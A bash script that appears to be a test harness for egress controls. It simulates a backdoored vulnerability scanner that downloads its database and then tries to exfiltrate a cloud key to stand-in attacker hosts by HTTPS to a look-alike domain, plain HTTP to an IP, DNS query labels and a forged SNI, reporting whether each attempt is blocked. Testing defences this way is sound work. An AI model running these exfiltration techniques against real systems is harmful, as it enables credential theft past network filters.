#!/bin/bash
# A "vulnerability scanner" with a backdoor, as in the March 2026 incident:
# it updates its database from its mirror, then tries every way it knows to
# send the cloud key it found to its operators. Runs in the client namespace.
# Prints one line per step: STEP <name> <ok|blocked> <detail>.
# Usage: demo_scanner.sh CA_FILE OUT_DIR
CA=$1
OUT=$2
KEY_ID=AKIAIOSFODNN7EXAMPLE
SECRET=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY
CURL=(curl -sS --noproxy '*' --cacert "$CA" --max-time 5)

step() { # name rc detail
	if [ "$2" -eq 0 ]; then echo "STEP $1 ok $3"; else echo "STEP $1 blocked $3"; fi
}

# 1. The legitimate job: download the vulnerability database.
"${CURL[@]}" -o "$OUT/db.json" https://mirror.example.net/db.json 2>"$OUT/err1"
step update-db $? "https://mirror.example.net/db.json $(head -c 80 "$OUT/err1")"

payload="aws_access_key_id=$KEY_ID&aws_secret_access_key=$SECRET"

# 2. HTTPS POST to the look-alike domain.
"${CURL[@]}" -d "$payload" https://mirror.examp1e.net/v1/collect 2>"$OUT/err2"
step https-post-lookalike $? "https://mirror.examp1e.net/v1/collect $(head -c 80 "$OUT/err2")"

# 3. Plain HTTP POST straight to the collection host's address.
"${CURL[@]}" -d "$payload" http://203.0.113.66/collect 2>"$OUT/err3"
step http-post-ip $? "http://203.0.113.66/collect $(head -c 80 "$OUT/err3")"

# 4. DNS: the key in query labels, to the attacker's own domain.
label=$(printf '%s' "$KEY_ID" | tr 'A-Z' 'a-z')
ans=$(dig +time=2 +tries=1 +short TXT "$label.k1.attacker.example" 2>&1)
st=$(dig +time=2 +tries=1 TXT "$label.k2.attacker.example" 2>&1 | grep -o 'status: [A-Z]*')
[ -n "$ans" ] && [[ $ans != *";;"* ]] && rc=0 || rc=1
step dns-labels $rc "TXT $label.k1.attacker.example ($st)"

# 5. Forged SNI: claim to be the allowed mirror, connect to the attacker.
"${CURL[@]}" --resolve mirror.example.net:443:203.0.113.66 -d "$payload" \
	https://mirror.example.net/upload 2>"$OUT/err5"
step forged-sni $? "mirror.example.net -> 203.0.113.66 $(head -c 80 "$OUT/err5")"
exit 0
